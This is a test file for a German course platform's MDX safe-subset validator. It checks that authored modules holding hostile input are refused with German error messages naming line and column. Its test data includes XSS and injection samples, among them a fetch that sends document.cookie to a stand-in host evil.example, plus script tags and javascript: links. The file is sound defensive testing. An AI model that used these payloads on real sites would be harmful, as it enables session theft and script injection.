// Hostile input for modules written in Horizont: none of these compiles, every refusal names the
// line and column in German, and a built-in module (the starting point of every copy) passes.
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { checkAuthoredModule, checkSafeSubset, decodeUtf8, limits } from "~/authoring/safe-mdx.server";

const base = fs.readFileSync(path.resolve("courses/kommunikation-beratung/aktiv-zuhoeren.mdx"), "utf8");
const bodyStart = base.indexOf("\n## ");
/** The built-in module with `snippet` inserted as a paragraph after the frontmatter (line `insertLine`). */
const withSnippet = (snippet: string) => `${base.slice(0, bodyStart)}\n\n${snippet}\n${base.slice(bodyStart)}`;
const insertLine = base.slice(0, bodyStart).split("\n").length + 2;

describe("the safe MDX subset", () => {
  it("accepts a built-in module unchanged and compiles it without its answer key", async () => {
    expect(checkSafeSubset(base)).toEqual([]);
    const result = await checkAuthoredModule(base, "aktiv-zuhoeren");
    expect(result.ok).toBe(true);
    if (result.ok) {
      expect(result.extracted.key.questions.length).toBeGreaterThan(5);
      const explanation = result.extracted.key.questions[0].options[0].explanation;
      expect(result.code).not.toContain(explanation);
    }
  });

  const hostile: [string, string, RegExp][] = [
    ["an expression that ends the server process", "Text {process.exit()} weiter", /JavaScript/],
    ["an expression that fetches", "{fetch('https://evil.example/?c=' + document.cookie)}", /JavaScript/],
    ["an import", 'import fs from "node:fs"', /import/],
    ["an export", "export const x = 1", /export/],
    ["a script element", "<script>alert(1)</script>", /HTML-Element <script>/],
    ["an event-handler prop on a component", '<Callout type="info" onClick="alert(1)">Hallo</Callout>', /Ereignis-Attribute/],
    ["an event-handler prop on an allowed HTML element", '<abbr title="x" onMouseOver="alert(1)">x</abbr>', /Ereignis-Attribute/],
    ["a javascript: link", "[Hier klicken](javascript:alert(1))", /„javascript:“/],
    ["a javascript: link with blanks inside the scheme", "[Hier](<java\tscript:alert(1)>)", /nicht erlaubt/],
    ["a data: link", "[Datei](data:text/html;base64,PHNjcmlwdD4=)", /„data:“/],
    ["a data: image", "![Bild](data:image/svg+xml;base64,PHN2Zz4=)", /Bilder nur über https/],
    ["a javascript: reference definition", "[x][y]\n\n[y]: javascript:alert(1)", /„javascript:“/],
    ["an iframe", '<iframe src="https://evil.example"></iframe>', /HTML-Element <iframe>/],
    ["an expression in a prop", '<Callout type="info" title={globalThis.x}>Hallo</Callout>', /JavaScript in \{…\}/],
    ["a spread prop", '<Callout {...props}>Hallo</Callout>', /Spread/],
    ["an unknown component", "<Button>OK</Button>", /keine Kurskomponente/],
    ["an href on an allowed element", '<abbr href="javascript:alert(1)">x</abbr>', /Attribut/],
  ];
  for (const [what, snippet, message] of hostile) {
    it(`refuses ${what} with line, column and a German message, before compiling`, async () => {
      const source = withSnippet(snippet);
      const problems = checkSafeSubset(source);
      expect(problems.length).toBeGreaterThan(0);
      expect(problems.map((p) => p.message).join("\n")).toMatch(message);
      expect(problems[0].line).toBe(insertLine + (snippet.startsWith("[x][y]") ? 2 : 0));
      expect(problems[0].column).toBeGreaterThanOrEqual(1);
      const result = await checkAuthoredModule(source, "aktiv-zuhoeren");
      expect(result.ok).toBe(false);
    });
  }

  it("refuses a huge document with a clear message", async () => {
    const source = withSnippet("Lorem ipsum dolor sit amet. ".repeat(Math.ceil(limits.maxBytes / 20)));
    const problems = checkSafeSubset(source);
    expect(problems).toHaveLength(1);
    expect(problems[0].message).toMatch(/zu groß .* höchstens 150 KB/);
    expect((await checkAuthoredModule(source, "aktiv-zuhoeren")).ok).toBe(false);
  });

  it("refuses deeply nested Markdown (quotes and lists) without overflowing", () => {
    const quotes = withSnippet(`${"> ".repeat(5000)}tief`);
    expect(checkSafeSubset(quotes).map((p) => p.message).join()).toMatch(/Zu tief verschachtelt/);
    const lists = withSnippet(Array.from({ length: 40 }, (_, i) => `${"  ".repeat(i)}- Ebene ${i}`).join("\n"));
    const problems = checkSafeSubset(lists);
    expect(problems.map((p) => p.message).join()).toMatch(/Zu tief verschachtelt/);
  });

  it("refuses a question with 10,000 options", async () => {
    const options = Array.from({ length: 10_000 }, (_, i) => `    <Option explanation="Nein.">Option ${i}</Option>`).join("\n");
    const source = base.replace("<Quiz>\n", `<Quiz>\n  <Question id="viele" type="single" prompt="Welche?">\n    <Option correct explanation="Ja.">Richtig</Option>\n${options}\n  </Question>\n`);
    const problems = checkSafeSubset(source);
    expect(problems.map((p) => p.message).join()).toMatch(/zu groß/);
    expect((await checkAuthoredModule(source, "aktiv-zuhoeren")).ok).toBe(false);
  });

  it("refuses too many options even in a document under the size limit", () => {
    const options = Array.from({ length: 12 }, (_, i) => `    <Option explanation="Nein.">Option ${i}</Option>`).join("\n");
    const source = base.replace("<Quiz>\n", `<Quiz>\n  <Question id="viele" type="single" prompt="Welche?">\n    <Option correct explanation="Ja.">Richtig</Option>\n${options}\n  </Question>\n`);
    const problems = checkSafeSubset(source);
    expect(problems.map((p) => p.message).join()).toMatch(/13 Antwortoptionen; erlaubt sind höchstens 8/);
  });

  it("refuses invalid UTF-8 bytes and replacement characters", () => {
    const bytes = Buffer.concat([Buffer.from(base.slice(0, bodyStart)), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from(base.slice(bodyStart))]);
    expect(decodeUtf8(bytes)).toBeNull();
    const asForm = bytes.toString("utf8"); // what a lenient decoder makes of it: U+FFFD
    const problems = checkSafeSubset(asForm);
    expect(problems[0].message).toMatch(/kein gültiges UTF-8/);
    expect(problems[0].line).toBe(base.slice(0, bodyStart).split("\n").length);
  });

  it("refuses a frontmatter certifying a competence that does not exist, naming its line", async () => {
    const source = base.replace("  s.empathy: 1", "  k.telepathy: 1");
    const result = await checkAuthoredModule(source, "aktiv-zuhoeren");
    expect(result.ok).toBe(false);
    if (!result.ok) {
      expect(result.errors[0].message).toMatch(/Kopfdaten – Kompetenzen: „k.telepathy“ ist keine Kompetenz/);
      expect(result.errors[0].line).toBe(base.split("\n").findIndex((l) => l.includes("s.empathy")) + 1);
    }
  });

  it("refuses a level above 2 and a module id that does not match", async () => {
    const level3 = await checkAuthoredModule(base.replace("c.active-listening: 2", "c.active-listening: 3"), "aktiv-zuhoeren");
    expect(level3.ok).toBe(false);
    if (!level3.ok) expect(level3.errors[0].message).toMatch(/höchstens Stufe 2/);
    expect((await checkAuthoredModule(base, "anderes-modul")).ok).toBe(false);
  });

  it("reports a syntax error with its line and column", () => {
    const problems = checkSafeSubset(withSnippet('<Callout type="info">offen'));
    expect(problems).toHaveLength(1);
    // In German, naming the line of the open element; the parser's own words are kept.
    expect(problems[0].message).toBe(`Zu <Callout> (Zeile ${insertLine}) fehlt das schließende </Callout>.`);
    expect(problems[0].original).toMatch(/^Expected a closing tag for `<Callout>`/);
    expect(problems[0].line).toBe(insertLine);
  });

  it("allows ordinary links, https images and the HTML allow-list", () => {
    const source = withSnippet('Siehe [BAMF](https://www.bamf.de), [Abschnitt](#quiz), <abbr title="Aufenthaltsgesetz">AufenthG</abbr>, H<sub>2</sub>O und ![Logo](https://example.org/logo.png).');
    expect(checkSafeSubset(source)).toEqual([]);
  });

  it("compiles the allowed HTML elements", async () => {
    const result = await checkAuthoredModule(withSnippet('Das <abbr title="Aufenthaltsgesetz">AufenthG</abbr> gilt.<br />Neu.'), "aktiv-zuhoeren");
    expect(result.ok).toBe(true);
  });
});
